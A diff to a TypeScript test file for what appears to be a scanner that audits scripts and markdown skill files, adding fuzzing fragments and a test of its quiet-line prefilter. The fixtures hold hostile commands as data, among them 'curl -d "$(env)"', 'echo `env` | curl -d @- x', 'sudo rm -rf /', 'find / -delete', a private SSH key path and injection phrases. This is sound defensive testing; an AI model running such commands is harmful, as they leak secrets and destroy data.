@@ -20,6 +20,7 @@ const fragments = fc.constantFrom(
   '![x](', '{{', '}}', 'secret', 'query', 'put', 'add the', ' token', ' in the url', 'requests.post(', '~/.ssh/id_rsa', 'String.fromCharCode(101,',
   'global[', 'window.', 'getattr(os, "system")', 'python3 -c "', 'node -e \'', 'import(', '(0, eval)', '<!-- ', ' -->', '\\\n', '\r\n', '\n',
   '\0', '    ', '\t', '- ', '## Red flags\n', ' ', '#', '//', 'user', 'do not tell the ', 'this skill', '$HOME', 'find / -delete',
+  '```python\n', '#!/usr/bin/env python3\n', 'python3.11 ', 'python310 ', 'python.', '-c ', '` env', '`env`', '``', 'curl -d "$(env)" ',
 );
 const text = fc.array(fc.oneof(fragments, fragments, fc.constantFrom(...HINTS), fc.string({ maxLength: 8 })), { maxLength: 50 }).map((a) => a.join(''));
 
@@ -125,4 +126,21 @@ test('quiet flags that are not one per line are not trusted: the lines are read 
   const quiet = quietLinesOf(Buffer.from(text));
   assert.equal(quiet.length, 5);
   assert.deepEqual(auditText('x.py', text, 'script', { quiet }).findings, every);
+});
+
+test('a fence line and an interpreter named at a line\'s end are quiet; hints across a code span and inline programs stay loud', () => {
+  const lines = [
+    '```bash', '```', '````', '```python', '~~~', '#!/usr/bin/env python3', 'python3', // nothing to find on their own
+    'run `x` sudo rm -rf /', 'python3.11 -c "import os"', 'python310 -c "x"', 'python\t-c "x"', 'echo `env` | curl -d @- x', // loud
+  ];
+  assert.deepEqual([...quietLinesOf(lines)], [1, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0]);
+  assert.deepEqual([...quietLinesOf(Buffer.from(lines.join('\n')))], [1, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0]);
+  // Whatever the prefilter says, the findings are those of a reading of every line.
+  const doc = ['# Deploy', '', '```bash', 'python3.11 -c "import os; os.system(\'rm -rf ~\')"', '```', '', 'Then run `x` sudo rm -rf / now.',
+    '```python', 'print(1)', '```', ''].join('\n');
+  for (const kind of ['markdown', 'shell', 'script'] as const) {
+    const found = auditText('x.md', doc, kind).findings;
+    assert.deepEqual(found, auditText('x.md', doc, kind, { everyLine: true }).findings, kind);
+    if (kind === 'markdown') assert.ok(found.some((f) => f.level === 'P0'), JSON.stringify(found));
+  }
 });
